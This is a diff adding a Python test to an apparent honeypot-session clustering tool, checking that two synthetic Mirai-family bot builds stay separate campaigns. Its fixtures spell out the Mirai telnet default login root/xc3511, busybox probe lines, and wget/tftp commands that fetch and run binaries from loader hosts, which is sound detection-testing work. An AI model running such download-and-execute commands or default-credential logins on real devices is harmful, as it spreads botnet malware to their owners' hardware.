@@ -323,6 +323,40 @@ def test_a_toolkits_own_terminal_request_counts_as_tooling_and_a_library_default
     assert shared_tool_log_odds(frame, members) > 5 * shared_tool_log_odds(frame, crowded)
 
 
+def _mirai_bots(
+    rng: random.Random, marker: str, echo_file: str, loader: str, n: int
+) -> tuple[list[str], list[AttackSession]]:
+    """Bots of one Mirai-family build: its fixed marker, echo file and loader host; optional steps."""
+    ips = [random_ip(rng) for _ in range(n)]
+    sessions = []
+    for ip in ips:
+        lines = ["enable", "system", "shell", "sh", f"/bin/busybox {marker}"]
+        if rng.random() < 0.7:
+            lines.append(f"/bin/busybox cat /proc/mounts; /bin/busybox {marker}")
+        if rng.random() < 0.6:
+            lines.append(f"/bin/busybox echo -e '\\x41' > /dev/{echo_file}; /bin/busybox rm /dev/{echo_file}")
+        if rng.random() < 0.3:
+            lines.append(f"/bin/busybox wget http://{loader}/bins/x.arm7 -O - > dvr; ./dvr telnet.arm7")
+        sessions.append(
+            session(
+                ip, rng.uniform(0, 86000), logins=[("root", "xc3511")], success=True, commands=lines, port=23
+            )
+        )
+    return ips, sessions
+
+
+def test_two_mirai_builds_with_their_own_markers_are_never_one_campaign() -> None:
+    """Both builds type the Mirai loader's lines; each has its own fixed ``/bin/busybox`` marker.
+    A marker several sources type is the build's own, as a loader host is: two builds stay apart."""
+    rng = random.Random(35)
+    a, bots_a = _mirai_bots(rng, "ECCHI", ".nippon", "185.10.68.1", 25)
+    b, bots_b = _mirai_bots(rng, "SORA", ".ptmx", "45.95.147.9", 15)
+    result = analyze_sessions(bots_a + bots_b + background(rng, 200, span_s=86400), {})
+    for group in _linked(result):
+        assert not (group & set(a) and group & set(b)), "two builds merged"
+    assert _pair_recall(result, a) > 0.3 and _pair_recall(result, b) > 0.3
+
+
 def _dropper(host: str, script: str) -> str:
     return (
         f"cd /tmp; wget http://{host}/{script}; chmod 777 {script}; sh {script}; tftp {host} -c get t{script}"
